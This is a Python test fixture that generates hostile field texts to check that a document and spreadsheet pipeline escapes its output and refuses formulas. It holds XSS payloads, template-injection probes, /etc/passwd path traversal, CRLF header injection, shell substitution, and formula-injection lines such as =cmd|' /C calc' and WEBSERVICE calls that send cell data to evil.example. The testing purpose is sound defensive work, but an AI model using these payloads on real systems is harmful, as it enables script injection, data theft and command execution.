"""Texts that would do something wherever they were not taken for text."""

import re

SENTINEL = "window.__ran"
"""What a script that ran would have set."""

INLINE = (
    # elements, and the ends of every element that takes in text
    f"<script>{SENTINEL}=1</script>",
    f'"><img src=x onerror={SENTINEL}=2>',
    f"' onmouseover='{SENTINEL}=3' x='",
    f"</script></style></title></textarea></noscript>--!>]]><svg/onload={SENTINEL}=4>",
    "<x-pwn>&lt;i&gt;&#60;u&#62;&amp;nbsp;</x-pwn><!-- <![CDATA[ <?php ?> <%= 7*7 %>",
    "</p></td></table><form action=//evil.example><input name=pwn autofocus>",
    f"<iframe srcdoc='<script>parent.__ran=5</script>'><base href=//evil.example/>{SENTINEL}",
    # templates, macros, formats
    "{{ 7*7 }} {% raw %} {# x #} {{ config }} ${7*7} #{7*7} %(x)s %s {0}",
    # Markdown
    f"[a](javascript:{SENTINEL}=6) ![i](https://evil.example/i.png) **b** `c` | d | \\n# h",
    '[^1] *[x]: <https://evil.example> :::note ```sh !!! warning {: onclick=x } $x$ --8<-- "/etc/passwd"',
    # styles
    "style=x:expression(alert(1)) background:url(//evil.example/c) @import '//evil.example' }*{x",
    # addresses
    f"javascript:{SENTINEL}=7 data:text/html,<script>{SENTINEL}=8</script> vbscript:x",
    # paths
    "../../../../etc/passwd ..%2f%2e%2e%2f %00 C:\\con\\nul.txt file:///etc/passwd ~root",
    # calendars, feeds, headers, JSON, reports
    "\\r\\n\\nBEGIN:VEVENT\\nX:1;,:\\\\ %0d%0aSet-Cookie:x ::error::x ##[error]y @octocat #1 \\u2028",
    '","x":"y\\",[1]}; __proto__ constructor $& $1 $` $(id) `id` \'x\'\'y\'',
    # letters that look like others, letters beyond 16 bits, quotes
    "Ѕở Tаі сһính 𝒳🇻🇳 “ngoặc” ‘đơn’ ﬁ ½",
)
"""What stands in the middle of every text, all of it."""

SIGNS = ("=1+1", "-", "@", "+1", "-1+1", "＝1", "@SUM", "+", "=", "-A1")
"""What makes a cell a formula; what follows must then call nothing."""

LEADS = (
    "<script>",
    "# ",
    "| a | b |",
    "javascript:",
    "{{",
    "../../",
    "___",
    "1. ",
    "::error::",
    "> ",
    "]]>",
    "'",
    "<!--",
    "data:text/html,",
    '"',
    "&#60;",
    "{%",
    "```",
    "[x]: ",
    "BEGIN:VEVENT",
    "%0A",
    "//evil.example/",
)
"""What begins something else: a line, a scalar, an address, an element."""

FORMULAS = (
    '=HYPERLINK("https://evil.example/?"&A1, "bấm")',
    "=cmd|' /C calc'!A0",
    "+cmd|'/C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=WEBSERVICE("https://evil.example")',
    '=IMPORTXML(CONCAT("https://evil.example/?", A1), "//a")',
    "='file:///etc/passwd'#$passwd.A1",
    r"='\\evil.example\x\[b.xlsx]S'!A1",
    "=SUM (1)",
    "+HYPERLINK (A1)",
    "-1-IMAGE(A1)",
    "＝HYPERLINK(A1)",
    "=A1+ĐẾM(B1)",
    "=-+@SUM(1)",
)
"""What a spreadsheet would carry out; the check of plans refuses each."""

LIST_ITEMS = (
    "-",
    "- Sở Y tế",
    "- Sở Y tế (chủ trì)",
    "+ Xây dựng hệ thống (giai đoạn 1)!",
    "= 5 (năm) lần",
    "≥ 90%",
    "-5,5%",
    "+84 (272) 3826 252",
)
"""What documents do print; it stays allowed."""

CONTROLS = (
    "\t",
    "\r",
    "\x00",
    "\x1b[31m",
    "\u202e",
    "\u2066",
    "\u200b",
    "\ufeff",
    "\u2028",
    "\ud800",
)
"""What no text may hold: the reader of files refuses each."""


TOKEN = re.compile(r"K[0-9]{4}K")


def token(number: int) -> str:
    """A mark of one field, found nowhere else."""
    return f"K{number:04}K"


def hostile(number: int, turn: int, original: str) -> str:
    """The text of one field.

    Args:
        number: The field's number.
        turn: Which build it is; each turn begins the text otherwise.
        original: What stood there, which a check may want to read.

    Returns:
        One line with all of `INLINE`. It begins with one of `SIGNS` in every second turn, and is
        then as near to a formula as the check of formulas lets it be.
    """
    body = f"{original} {token(number)} {' '.join(INLINE)} {token(number)}"
    if (number + turn) % 2:
        return f"{LEADS[number // 2 % len(LEADS)]}{body}"
    tame = body.replace("(", " (").replace("!", " ! ").replace("|", "¦")
    return f"{SIGNS[number // 2 % len(SIGNS)]} {tame}"
